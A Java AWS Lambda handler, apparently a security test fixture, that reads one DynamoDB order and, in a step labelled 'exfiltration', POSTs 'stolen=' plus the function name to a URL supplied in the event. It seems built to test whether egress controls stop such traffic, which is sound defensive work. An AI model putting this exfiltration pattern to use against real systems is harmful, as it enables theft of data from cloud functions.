package io.warden.service.sdkfunction;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.dynamodb.model.GetItemResponse;

/**
 * A function whose work is one DynamoDB read of the table {@code ORDERS_TABLE} through the AWS SDK for Java v2 and its
 * URLConnection client ({@code ORDERS_ENDPOINT}: the endpoint the client is configured with), and whose attack step
 * posts data to {@code exfilUrl}. Event: {@code steps}, the names of the steps to run ({@code getOrder},
 * {@code exfiltration}), and {@code exfilUrl}. Each step reports "ok: ..." or the exception it met.
 */
public class OrdersTableFunction implements RequestHandler<Map<String, Object>, Map<String, Object>> {

    private static final int HTTP_TIMEOUT_MILLIS = 3_000;

    private final DynamoDbClient orders = DynamoDbClient.builder()
            .endpointOverride(URI.create(System.getenv("ORDERS_ENDPOINT")))
            .httpClientBuilder(UrlConnectionHttpClient.builder())
            .build();

    @Override
    public Map<String, Object> handleRequest(Map<String, Object> event, Context context) {
        Map<String, Object> outcomes = new LinkedHashMap<>();
        List<?> steps = (List<?>) event.get("steps");
        if (steps.contains("getOrder")) {
            outcomes.put("getOrder", outcome(() -> {
                GetItemResponse item = orders.getItem(request ->
                        request.tableName(System.getenv("ORDERS_TABLE")).key(Map.of("id", AttributeValue.fromS("1"))));
                return item.hasItem() ? "order " + item.item().get("id").s() : "no order";
            }));
        }
        if (steps.contains("exfiltration")) {
            outcomes.put("exfiltration", outcome(() -> {
                HttpURLConnection connection = (HttpURLConnection)
                        URI.create((String) event.get("exfilUrl")).toURL().openConnection();
                connection.setConnectTimeout(HTTP_TIMEOUT_MILLIS);
                connection.setReadTimeout(HTTP_TIMEOUT_MILLIS);
                connection.setRequestMethod("POST");
                connection.setDoOutput(true);
                try (OutputStream out = connection.getOutputStream()) {
                    out.write(("stolen=" + context.getFunctionName()).getBytes(StandardCharsets.UTF_8));
                }
                return "HTTP " + connection.getResponseCode();
            }));
        }
        return outcomes;
    }

    private interface Step {
        String run() throws Exception;
    }

    private static String outcome(Step step) {
        try {
            return "ok: " + step.run();
        } catch (Exception e) {
            return e.getClass().getName() + ": " + e.getMessage();
        }
    }
}
